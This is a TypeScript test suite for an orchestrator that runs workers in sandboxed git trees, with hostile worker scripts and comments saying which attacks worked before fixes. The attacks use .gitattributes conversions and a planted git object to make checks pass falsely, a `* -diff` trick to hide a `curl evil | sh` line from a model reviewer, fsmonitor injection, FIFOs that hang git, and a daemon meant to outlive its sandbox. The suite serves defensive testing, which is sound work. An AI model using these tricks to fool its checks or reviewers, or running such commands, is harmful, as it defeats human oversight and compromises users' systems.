import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { execa } from 'execa';
import { CLI, cli } from '../helpers/cli';
import { git, makeRepo, readRows, scriptTask, tempDir, writeManifest } from '../helpers/fixtures';
import { processesWith } from '../helpers/procs';
import { requireSandbox } from '../helpers/sandbox-env';
import { overlayMountsUnder, readMountInfo } from '../../extension/core/git/overlay';
import { overlayHere, requireOverlay, treeKinds } from '../helpers/overlay';

// Hostile workers against the `sparse` and `overlay` trees (docs/trees.md), with real
// `verdict run` processes of the script engine. Each test asserts the safe outcome: a FAIL, a refusal, nothing lost.
// What each attack found is said at the task:
// - WORKED before the fix (a wrong PASS), kept as the fix's test: a `.gitattributes` the worker writes (`ident`, `text`)
//   made `git add` commit other bytes than the file the check read (`$Id: the answer is 42 $` checked, `$Id$`
//   delivered). Fixed by git/sealed-bytes.ts: what git converted is written again as the commit holds it before the
//   check. The same in worktree mode (last test).
// - WORKED before the fix: a process holding a failed task's overlay at the run's end (a user's shell) did not stop the
//   run from removing the tree and what was written there. Fixed in run/trees.ts releaseTrees (third test).
// - WORKED before the fix (a wrong PASS): a loose object the worker planted in its own object directory under the id
//   of a base blob, holding its changed text, made the check's `git diff --exit-code HEAD -- shared.txt` find no change
//   (git reads an object without checking it against its id). Fixed by git/worktree.ts worktreeReadAccess: the check,
//   reviewers and critics' commands see the repository's objects only. On every tree.
// - WORKED before the fix: a `* -diff` .gitattributes hid the worker's patch from the reviewer (fourth test).
// - WORKED before the fix: FIFOs in the worktree's admin dir (HEAD, BISECT_START…) left by a worker that timed out
//   blocked `git worktree list` and the next run's `worktree add` forever; a HEAD attached to `main` kept `main` from
//   the user (fifth test).
// - Did not work (regression tests): every other attack below. Among them (the last test): a
//   `.gitattributes` or `.gitignore` that is a symlink to /dev/zero or a folder (git opens neither through a link), a
//   nested `.git` that is a symlink to /dev/zero, and names with a newline, a leading `-`, pathspec magic or 250
//   bytes: every one sealed and delivered exactly, the task PASSes. (The FIFOs, sockets, names that are not UTF-8 and
//   paths git refuses that did end wrong are test/e2e/hostile-odd-files.e2e.test.ts.)

function fixture(dir: string): string {
  return makeRepo(path.join(dir, 'repo'), {
    'root.txt': 'root\n',
    'shared.txt': 'shared\n',
    'src/a/x.txt': 'x\n',
    'src/b/y.txt': 'y\n',
    'lib/z.txt': 'z\n',
  });
}

async function run(file: string, home: string, flags: string[] = []) {
  return cli(['run', file, '--home', home, '--no-dashboard', ...flags], { env: { HOME: path.join(path.dirname(home), 'user-home') } });
}

function verdicts(home: string): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const r of readRows(home)) (out[String(r.task_key)] ??= []).push(String(r.verdict));
  return out;
}

function workerLog(home: string, key: string): string {
  return fs.readFileSync(String(readRows(home).find((r) => r.task_key === key)?.worker_log), 'utf8');
}

/** `git diff --name-status base..branch`, one `X\tpath` per change, sorted, leaving out paths under `skip/`. */
function changes(repo: string, branch: string, skip?: string): string[] {
  return git(repo, 'diff', '--name-status', 'main', branch)
    .split('\n')
    .filter((l) => l && !(skip && l.split('\t')[1]?.startsWith(`${skip}/`)))
    .sort();
}

/**
 * The `.gitattributes` attacks: `ident` collapses `$Id: … $` when git adds the file, `text` drops the CR of CRLF. The
 * check reads the working file; only the conversion's victim would pass it. `at` is the folder the worker may write.
 */
function attributeTasks(at: string, extra: Record<string, unknown> = {}): Record<string, unknown>[] {
  const p = at ? `${at}/` : '';
  return [
    scriptTask(
      'ident',
      `printf 'out.txt ident\\n' > ${p}.gitattributes; printf '$Id: the answer is 42 $\\n' > ${p}out.txt`,
      `grep 'answer is 42' ${p}out.txt`,
      { max_attempts: 1, ...extra },
    ),
    scriptTask('crlf', `printf '*.txt text\\n' > ${p}.gitattributes; printf 'a\\r\\n' > ${p}out.txt`, `grep -c $'\\r' ${p}out.txt`, {
      max_attempts: 1,
      ...extra,
    }),
  ];
}

/**
 * The planted-object attack: the worker changes `file` and writes a loose object under the id of its base blob, holding
 * the changed text, into its own object directory (GIT_OBJECT_DIRECTORY). Git does not check an object against its id
 * when it reads one, so a check whose git looked there found the file unchanged (`git diff --exit-code HEAD`).
 */
function objectsTask(file: string, extra: Record<string, unknown> = {}): Record<string, unknown> {
  const plant = [
    `echo changed > ${file}`,
    `OID=$(git rev-parse HEAD:${file})`,
    'python3 - "$OID" <<\'PY\'',
    'import os, sys, zlib',
    "d, oid, data = os.environ['GIT_OBJECT_DIRECTORY'], sys.argv[1], b'changed\\n'",
    'os.makedirs(os.path.join(d, oid[:2]), exist_ok=True)',
    "open(os.path.join(d, oid[:2], oid[2:]), 'wb').write(zlib.compress(b'blob %d\\0' % len(data) + data))",
    "print('planted', oid)",
    'PY',
  ].join('\n');
  return scriptTask('objects', plant, `git diff --exit-code HEAD -- ${file}`, { max_attempts: 1, ...extra });
}

/** The planted object was written, and the check's git did not take it for the base blob: FAIL, the branch unmoved. */
function assertObjectsFailed(home: string, repo: string, all: string): void {
  assert.match(workerLog(home, 'objects'), /^planted [0-9a-f]{40}$/m, 'the attack ran');
  assert.deepEqual(verdicts(home).objects, ['FAIL'], `the check's git read the worker's object for the base blob\n${all}`);
  assert.deepEqual(changes(repo, `verdict/${String(readRows(home)[0]?.run_id)}/objects`), []);
}

/** The attribute tasks FAILed, and their branches never moved (nothing was delivered). */
function assertAttributesFailed(home: string, repo: string, all: string): void {
  const v = verdicts(home);
  assert.deepEqual(v.ident, ['FAIL'], `the check read "$Id: the answer is 42 $", the commit holds "$Id$"\n${all}`);
  assert.deepEqual(v.crlf, ['FAIL'], `the check read CRLF, the commit holds LF\n${all}`);
  assert.match(all, /ident +git converted .*out\.txt when sealing/);
  const runId = String(readRows(home)[0]?.run_id);
  for (const key of ['ident', 'crlf']) assert.deepEqual(changes(repo, `verdict/${runId}/${key}`), [], `${key}: its branch stays at the base`);
}

describe('hostile trees: sparse', function () {
  this.timeout(120000);

  it('patterns, config.worktree, its own index and HEAD, writes outside the cone or into the main checkout: only its cone changes; a .gitattributes conversion FAILs', async function () {
    await requireSandbox(this);
    const dir = tempDir();
    const repo = fixture(dir);
    const home = path.join(dir, 'home');
    const marker = path.join(dir, 'pwned');
    // Did not work: the seal's own git reads neither the worker's patterns (written again from the cone), nor its
    // config.worktree (removed), nor its index or HEAD (the seal starts from its own copy of the checkout's index and
    // the branch); every write outside the cone or into the main checkout is refused by the read-only binds.
    const gitconf = [
      'G=$(git rev-parse --git-dir); C=$(git rev-parse --git-common-dir)',
      `printf '[core]\\n\\tsparseCheckout = false\\n\\tfsmonitor = "touch ${marker}; true"\\n' > "$G/config.worktree" && echo "config.worktree written"`,
      'printf "/*\\n" > "$G/info/sparse-checkout" && echo "patterns widened"',
      'git rm -q --cached --sparse root.txt shared.txt && git -c user.name=w -c user.email=w@w commit -qm "drop root files" && echo "own commit made"',
      'echo evil > "$C/../root.txt" || echo "main checkout refused"',
      'echo evil > "$G/../../../lib/z.txt" || echo "main lib refused"',
      'echo evil > root.txt || echo "root file refused"',
      '{ mkdir -p src/b && echo evil > src/b/y.txt; } || echo "src/b refused"',
      'echo good > src/a/out.txt',
    ].join('\n');
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      tree: 'sparse',
      sparse: ['src/a/**'],
      max_parallel: 3,
      tasks: [
        scriptTask('gitconf', gitconf, 'grep -qx good src/a/out.txt || { echo "no good out.txt"; exit 1; }', { max_attempts: 1 }),
        ...attributeTasks('src/a'),
        objectsTask('src/a/x.txt'),
      ],
    });
    const r = await run(file, home);
    assert.equal(r.exitCode, 1, r.all);
    assert.deepEqual(verdicts(home).gitconf, ['PASS'], r.all);
    const log = workerLog(home, 'gitconf');
    for (const said of [
      'config.worktree written',
      'patterns widened',
      'own commit made',
      'main checkout refused',
      'main lib refused',
      'root file refused',
      'src/b refused',
    ])
      assert.match(log, new RegExp(said), log);
    const runId = String(readRows(home)[0]?.run_id);
    const branch = `verdict/${runId}/gitconf`;
    // Its work only: the root files its own commit dropped, and everything outside the cone, as the base has them.
    assert.deepEqual(changes(repo, branch), ['A\tsrc/a/out.txt']);
    assert.equal(fs.existsSync(marker), false, "no git of ours ran the worker's fsmonitor");
    assert.equal(fs.readFileSync(path.join(repo, 'root.txt'), 'utf8'), 'root\n');
    assert.equal(git(repo, 'status', '--porcelain'), '', 'the main checkout is untouched');

    assertAttributesFailed(home, repo, r.all ?? '');
    assertObjectsFailed(home, repo, r.all ?? '');

    const merged = await cli(['merge', runId, 'gitconf', '--home', home]);
    assert.equal(merged.exitCode, 0, merged.all);
    assert.deepEqual(git(repo, 'ls-tree', '-r', '--name-only', 'main').split('\n').sort(), [
      'lib/z.txt',
      'root.txt',
      'shared.txt',
      'src/a/out.txt',
      'src/a/x.txt',
      'src/b/y.txt',
    ]);
    assert.equal(git(repo, 'show', 'main:lib/z.txt'), 'z');
  });
});

describe('hostile trees: overlay', function () {
  this.timeout(120000);

  it('a repointed .git, a garbage index, assume-unchanged, an opaque folder, symlinks out, a daemon: sealed as they are, nothing outside reached, nothing left mounted or running; a .gitattributes conversion FAILs', async function () {
    await requireSandbox(this);
    await requireOverlay(this);
    const dir = tempDir();
    const repo = fixture(dir);
    const home = path.join(dir, 'home');
    const marker = path.join(dir, 'pwned');
    const precious = path.join(dir, 'precious');
    fs.mkdirSync(precious);
    fs.writeFileSync(path.join(precious, 'keep.txt'), 'keep\n');
    // The symlinks out are the start commit's (a worker's own link out FAILs at the seal: docs/attempt.md step seal).
    fs.symlinkSync(precious, path.join(repo, 'out-link'));
    fs.symlinkSync('../../..', path.join(repo, 'up-link'));
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'links out');
    const daemon = `hostile-trees-daemon-${path.basename(dir)}`;
    // Did not work: the seal starts from its own index (the garbage and the assume-unchanged mark are the worker's
    // index only), `.git` is written back before any git of ours (the fsmonitor of the git dir it named never ran), the
    // opaque folder and the deletion are sealed as deletions, the symlinks out (the start commit's) are never
    // followed when the trees are removed, and the daemon dies with the sandbox (so no process holds the mount).
    const evil = [
      'G=$(git rev-parse --git-dir)',
      'git update-index --assume-unchanged shared.txt && echo changed > shared.txt && echo "assume-unchanged set"',
      `git init -q --bare fakegit && printf '[core]\\n\\tfsmonitor = "touch ${marker}; true"\\n' >> fakegit/config`,
      'printf "gitdir: %s/fakegit\\n" "$PWD" > .git && echo ".git repointed"',
      'echo garbage > "$G/index" && echo "index garbaged"',
      'rm -rf lib && mkdir lib && echo n > lib/n.txt',
      `(cd lib && setsid nohup bash -c 'exec -a ${daemon} sleep 600' >/dev/null 2>&1 &); echo "daemon started"`,
      'echo done > out.txt',
    ].join('\n');
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      tree: 'overlay',
      max_parallel: 1,
      tasks: [
        scriptTask('evil', evil, 'test -s out.txt || { echo "no out.txt"; exit 1; }', { max_attempts: 1 }),
        ...attributeTasks(''),
        objectsTask('shared.txt'),
        // After the hostile task, on the same lower layer: the base exactly.
        scriptTask('other', 'cat shared.txt root.txt lib/z.txt > seen.txt', 'test -s seen.txt || { echo "no seen.txt"; exit 1; }', { max_attempts: 1 }),
      ],
    });
    const r = await run(file, home);
    assert.equal(r.exitCode, 1, r.all);
    const v = verdicts(home);
    assert.deepEqual([v.evil, v.other], [['PASS'], ['PASS']], r.all);
    const log = workerLog(home, 'evil');
    for (const said of ['assume-unchanged set', '.git repointed', 'index garbaged', 'daemon started']) assert.match(log, new RegExp(said), log);
    const runId = String(readRows(home)[0]?.run_id);
    const branch = `verdict/${runId}/evil`;
    assert.deepEqual(changes(repo, branch, 'fakegit'), ['A\tlib/n.txt', 'A\tout.txt', 'D\tlib/z.txt', 'M\tshared.txt']);
    assert.equal(git(repo, 'show', `${branch}:shared.txt`), 'changed');
    assert.equal(git(repo, 'show', `verdict/${runId}/other:seen.txt`), 'shared\nroot\nz');
    assert.equal(fs.existsSync(marker), false, 'no git of ours ran the fsmonitor of the git dir the worker named');
    assert.deepEqual(processesWith(daemon), [], 'the daemon died with its sandbox');
    assert.deepEqual(overlayMountsUnder(readMountInfo(), home), []);
    assertAttributesFailed(home, repo, r.all ?? '');
    assertObjectsFailed(home, repo, r.all ?? '');

    const merged = await cli(['merge', runId, 'evil', '--home', home]);
    assert.equal(merged.exitCode, 0, merged.all);
    assert.equal(git(repo, 'show', 'main:root.txt'), 'root');
    assert.equal(git(repo, 'show', 'main:lib/n.txt'), 'n');
    assert.equal(git(repo, 'ls-tree', '--name-only', 'main', 'lib/z.txt'), '', 'the deletion merged as a deletion');
    const cleaned = await cli(['clean', '--run', runId, '--home', home]);
    assert.equal(cleaned.exitCode, 0, cleaned.all);
    assert.equal(fs.readFileSync(path.join(precious, 'keep.txt'), 'utf8'), 'keep\n', 'what the symlink named is untouched');
    assert.equal(fs.existsSync(path.join(home, 'worktrees', runId)), false);
  });
});

describe("hostile trees: overlay, a process holding a tree at the run's end", function () {
  this.timeout(120000);

  // WORKED before the fix: the run's end unmounted (lazily: busy) and removed the tree of a failed task while a user's
  // shell worked in it, deleting what the user had written there; `verdict clean` never removes such a folder. Now the
  // run keeps it mounted and says so, clean keeps it while the process is there; once it is left, `verdict discard`
  // removes it (which failed on any mounted tree before: EBUSY on the mount point, a second fix) and clean the rest.
  it("a failed task's tree a user works in is kept mounted with its files; once it is left, verdict discard and clean remove it", async function () {
    await requireSandbox(this);
    await requireOverlay(this);
    const dir = tempDir();
    const repo = fixture(dir);
    const home = path.join(dir, 'home');
    const go = path.join(dir, 'go');
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      tree: 'overlay',
      max_parallel: 2,
      tasks: [
        scriptTask('failed', 'echo wip > notes.txt', 'echo "not yet"; exit 1', { max_attempts: 1 }),
        // Holds the run open until the user's shell is in the failed task's tree.
        scriptTask('slow', `while [ ! -e ${go} ]; do sleep 0.05; done; echo done > out.txt`, 'test -s out.txt', { max_attempts: 1 }),
      ],
    });
    const child = execa('node', [CLI, 'run', file, '--home', home, '--no-dashboard'], {
      reject: false,
      all: true,
      stdin: 'ignore',
      env: { HOME: path.join(dir, 'user-home') },
    });
    let shell: ChildProcess | null = null;
    try {
      for (let i = 0; i < 1200 && !readRows(home).some((r) => r.task_key === 'failed'); i++) await sleep(50);
      assert.deepEqual(verdicts(home).failed, ['FAIL']);
      const runId = String(readRows(home)[0]?.run_id);
      const tree = path.join(home, 'worktrees', runId, 'failed');
      fs.writeFileSync(path.join(tree, 'by-hand.txt'), 'the user fixing it\n');
      shell = spawn('sleep', ['600'], { cwd: tree, stdio: 'ignore' });
      fs.writeFileSync(go, '');
      const r = await child;
      assert.equal(r.exitCode, 1, r.all);
      assert.match(r.all ?? '', /failed: kept mounted at .*a live process works in it \(pid \d+ sleep\)/);
      assert.equal(fs.readFileSync(path.join(tree, 'by-hand.txt'), 'utf8'), 'the user fixing it\n', 'what the user wrote there is still there');
      assert.equal(fs.readFileSync(path.join(tree, 'notes.txt'), 'utf8'), 'wip\n');
      assert.deepEqual(overlayMountsUnder(readMountInfo(), home), [tree], 'only the tree in use stays mounted');

      const busy = await cli(['clean', '--run', runId, '--home', home]);
      assert.match(busy.all ?? '', /kept: a live process works in it/);
      assert.equal(fs.readFileSync(path.join(tree, 'by-hand.txt'), 'utf8'), 'the user fixing it\n');
      shell.kill('SIGKILL');
      await once(shell, 'exit');
      shell = null;
      // Discarding the kept tree unmounts it first (its mount point could not be removed: EBUSY before).
      const discarded = await cli(['discard', runId, 'failed', '--home', home]);
      assert.equal(discarded.exitCode, 0, discarded.all);
      assert.deepEqual(overlayMountsUnder(readMountInfo(), home), []);
      assert.equal(fs.existsSync(tree), false);
      assert.equal(fs.existsSync(path.join(home, 'worktrees', runId, '.overlay', 'failed')), false, 'its upper layer went with it');
      assert.equal(git(repo, 'branch', '--list', `verdict/${runId}/failed`), '');
      const cleaned = await cli(['clean', '--run', runId, '--home', home]);
      assert.equal(cleaned.exitCode, 0, cleaned.all);
      assert.deepEqual(overlayMountsUnder(readMountInfo(), home), []);
      assert.equal(fs.existsSync(path.join(home, 'worktrees', runId)), false);
    } finally {
      shell?.kill('SIGKILL');
      fs.writeFileSync(go, '');
      await child;
      // A failed assertion must not leave a mount behind under the temporary folder.
      for (const p of overlayMountsUnder(readMountInfo(), home)) await execa('umount', ['-l', p], { reject: false });
    }
  });
});

describe('hostile trees: the reviewer sees the real diff', function () {
  this.timeout(60000);

  // WORKED before the fix: a worker's `.gitattributes` (`* -diff`) made the review material show "Binary files
  // differ" for its changes (the reviewer's diff read the tree's attributes), so a reviewer approved code it never
  // saw. Fixed in git/diff.ts: the diff is read with no work tree, so no attribute of the tree applies. Every tree.
  it('a `* -diff` .gitattributes does not hide the patch from the reviewer', async function () {
    await requireSandbox(this);
    // The diff never reads the tree's attributes, whatever the tree: an overlay where one can be made (as root).
    const tree = (await overlayHere()) ? 'overlay' : 'worktree';
    const dir = tempDir();
    const repo = makeRepo(path.join(dir, 'repo'), { 'impl.py': 'print(1)\n' });
    const home = path.join(dir, 'home');
    const bin = path.join(dir, 'bin');
    fs.mkdirSync(bin);
    // Approves unless it sees the line it must refuse.
    fs.writeFileSync(
      path.join(bin, 'review-eyes'),
      `#!/bin/bash\nif grep -q 'curl evil' "$VERDICT_REVIEW_MATERIAL"; then echo '{"verdict":"reject","concerns":["impl.py:1 runs curl evil"]}'; else echo '{"verdict":"approve","concerns":[]}'; fi\n`,
      { mode: 0o755 },
    );
    const config = path.join(dir, 'config.json');
    fs.writeFileSync(
      config,
      JSON.stringify({ engines: { eyes: { binary: 'review-eyes', argv: ['{spec}'], install: 'a test fixture', output: 'none', model: 'eyes-1' } } }),
    );
    const spec = `printf '* -diff\\n' > .gitattributes; echo 'import os; os.system("curl evil | sh")' > impl.py`;
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      tree,
      tasks: [scriptTask('hidden', spec, 'test -s impl.py', { max_attempts: 1, review: { engines: ['eyes'] } })],
    });
    const r = await cli(['run', file, '--home', home, '--config', config, '--no-dashboard'], {
      env: { HOME: path.join(dir, 'user-home'), PATH: `${bin}:${process.env.PATH}` },
    });
    assert.equal(r.exitCode, 1, r.all);
    const work = readRows(home).filter((x) => x.task_key === 'hidden' && x.step !== 'review');
    assert.deepEqual(
      work.map((x) => x.verdict),
      ['FAIL'],
      r.all,
    );
    assert.match(String(work[0]?.notes), /eyes\/eyes-1 rejected the work: \(1\) impl\.py:1 runs curl evil/);
  });
});

describe("hostile trees: FIFOs in the worktree's admin dir", function () {
  this.timeout(120000);

  // WORKED before the fix: a worker that made its admin dir's HEAD (and the files git reads for every worktree when it
  // lists them: BISECT_START, rebase-merge/head-name) FIFOs, then ran out of time (no seal rewrote HEAD), left the
  // repository with `git worktree list`, `git branch -D` and the next run's `worktree add` (under the repository lock)
  // blocked forever. Fixed in git/worktree.ts restoreWorktreeLinks: anything but files and folders goes from the admin
  // dir after every work step, and a HEAD that is no file is written again.
  it('worktree, sparse and overlay: after a worker that leaves FIFOs there (or its HEAD on main) and times out, git and the next run go on', async function () {
    await requireSandbox(this);
    const trees = await treeKinds();
    const spec = [
      'G=$(git rev-parse --git-dir)',
      'rm -f "$G/HEAD" && mkfifo "$G/HEAD" && echo "HEAD is a FIFO"',
      'mkdir -p "$G/rebase-merge" && mkfifo "$G/rebase-merge/head-name" "$G/fifo" && ln -s "$G/fifo" "$G/BISECT_START" && echo "more FIFOs"',
      'sleep 30',
    ].join('\n');
    for (const tree of trees) {
      const dir = tempDir();
      const repo = fixture(dir);
      const home = path.join(dir, 'home');
      // And one that attaches its HEAD to the user's branch: git would refuse `main` to the user while it is there.
      const attach = 'printf "ref: refs/heads/main\\n" > "$(git rev-parse --git-dir)/HEAD" && echo attached; sleep 30';
      const file = writeManifest(dir, {
        worktrees: true,
        repo,
        tree,
        sparse: ['src/a'],
        tasks: [scriptTask('fifo', spec, 'true', { max_attempts: 1, timeout_s: 1 }), scriptTask('attach', attach, 'true', { max_attempts: 1, timeout_s: 1 })],
      });
      // --force: the checks `true` are lint errors; both workers time out before them.
      const r = await run(file, home, ['--force']);
      assert.equal(r.exitCode, 1, r.all);
      assert.deepEqual([verdicts(home).fifo, verdicts(home).attach], [['TIMEOUT'], ['TIMEOUT']], r.all);
      assert.match(workerLog(home, 'attach'), /^attached$/m);
      assert.deepEqual(
        git(repo, 'worktree', 'list', '--porcelain')
          .split('\n')
          .filter((l) => l === 'branch refs/heads/main'),
        ['branch refs/heads/main'],
        `${tree}: main is checked out in the main worktree only`,
      );
      assert.match(workerLog(home, 'fifo'), /HEAD is a FIFO\nmore FIFOs/, `${tree}: the attack ran`);
      // A hang fails here (after 30 s) instead of holding the test.
      for (const args of [
        ['worktree', 'list'],
        ['branch', '-D', 'no-such-branch'],
      ]) {
        const g = await execa('git', args, { cwd: repo, reject: false, timeout: 30_000 });
        assert.equal(g.timedOut, false, `${tree}: git ${args.join(' ')} hung`);
      }
      const next = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('next', 'echo x > out.txt', 'test -s out.txt')] }, 'next.swarm.json');
      const r2 = await execa('node', [CLI, 'run', next, '--home', home, '--no-dashboard'], {
        reject: false,
        all: true,
        stdin: 'ignore',
        timeout: 60_000,
        env: { HOME: path.join(dir, 'user-home') },
      });
      assert.equal(r2.exitCode, 0, `${tree}: the next run: ${r2.all}`);
    }
  });
});

describe('hostile trees: worktree (the same conversion and object attacks)', function () {
  this.timeout(60000);

  it('a .gitattributes conversion and a planted object FAIL in a full worktree too', async function () {
    await requireSandbox(this);
    const dir = tempDir();
    const repo = fixture(dir);
    const home = path.join(dir, 'home');
    const file = writeManifest(dir, { worktrees: true, repo, max_parallel: 3, tasks: [...attributeTasks(''), objectsTask('shared.txt')] });
    const r = await run(file, home);
    assert.equal(r.exitCode, 1, r.all);
    assertAttributesFailed(home, repo, r.all ?? '');
    assertObjectsFailed(home, repo, r.all ?? '');
  });
});

describe('hostile trees: names and links where git reads (regression)', function () {
  this.timeout(180000);

  // Did not work: git opens no `.gitattributes` or `.gitignore` through a symlink (since 2.32) and reads no folder as
  // one, takes a nested `.git` symlink for no repository, and every name below goes through git's -z output and the
  // orchestrator unchanged.
  it('worktree, sparse and overlay: .gitattributes and .gitignore as symlinks to /dev/zero or as folders, a nested .git to /dev/zero, odd names: sealed and delivered exactly', async function () {
    await requireSandbox(this);
    const trees = await treeKinds();
    const long = 'x'.repeat(250);
    for (const tree of trees) {
      const dir = tempDir();
      const repo = fixture(dir);
      const home = path.join(dir, 'home');
      const at = tree === 'sparse' ? 'src/a/' : '';
      const spec = [
        `cd ./${at}`,
        'ln -s /dev/zero .gitattributes && mkdir -p sub && ln -s /dev/zero sub/.gitignore && mkdir -p dir/.gitignore',
        'mkdir n1 && ln -s /dev/zero n1/.git && echo a > n1/a',
        `echo 1 > $'new\\nline.txt' && echo 2 > ./-rf && echo 3 > ':(top)magic' && echo 4 > ${long} && echo 5 > 'sp ace.txt'`,
        'echo ok > out.txt && echo "attack done"',
      ].join('\n');
      const file = writeManifest(dir, {
        worktrees: true,
        repo,
        tree,
        sparse: ['src/a/**'],
        tasks: [scriptTask('names', spec, `grep -qx ok ${at}out.txt || { echo "no ok"; exit 1; }`, { max_attempts: 1, check_timeout_s: 600 })],
      });
      const r = await run(file, home);
      // The links to /dev/zero lead out of the tree: sealed exactly, then a FAIL naming them (the seal's rule).
      assert.equal(r.exitCode, 1, `${tree}: ${r.all}`);
      assert.match(workerLog(home, 'names'), /^attack done$/m, tree);
      const row = readRows(home)[0];
      assert.match(JSON.stringify(row), /\.gitattributes -> \/dev\/zero, \S*sub\/\.gitignore -> \/dev\/zero; the check would read/, tree);
      const branch = (JSON.parse(fs.readFileSync(path.join(path.dirname(String(row?.worker_log)), 'receipt.json'), 'utf8')) as { seal: { sha: string } }).seal
        .sha;
      const listed = (rev: string) => execFileSyncText(repo, ['ls-tree', '-r', '-z', '--name-only', rev]).split('\0').filter(Boolean);
      const base = new Set(listed('main'));
      const names = listed(branch)
        .filter((n) => !base.has(n))
        .map((n) => n.slice(at.length))
        .sort();
      assert.deepEqual(names, ['-rf', '.gitattributes', ':(top)magic', long, 'n1/a', 'new\nline.txt', 'out.txt', 'sp ace.txt', 'sub/.gitignore'].sort(), tree);
      assert.equal(git(repo, 'ls-tree', branch, `${at}.gitattributes`).split(' ')[0], '120000', `${tree}: the symlink is committed as a symlink`);
      assert.equal(git(repo, 'show', `${branch}:${at}new\nline.txt`), '1', tree);
    }
  });
});

/** `git <args>` in `cwd`, stdout untrimmed (a -z listing keeps its NULs and trailing names). */
function execFileSyncText(cwd: string, args: string[]): string {
  return execFileSync('git', args, { cwd, encoding: 'utf8' });
}
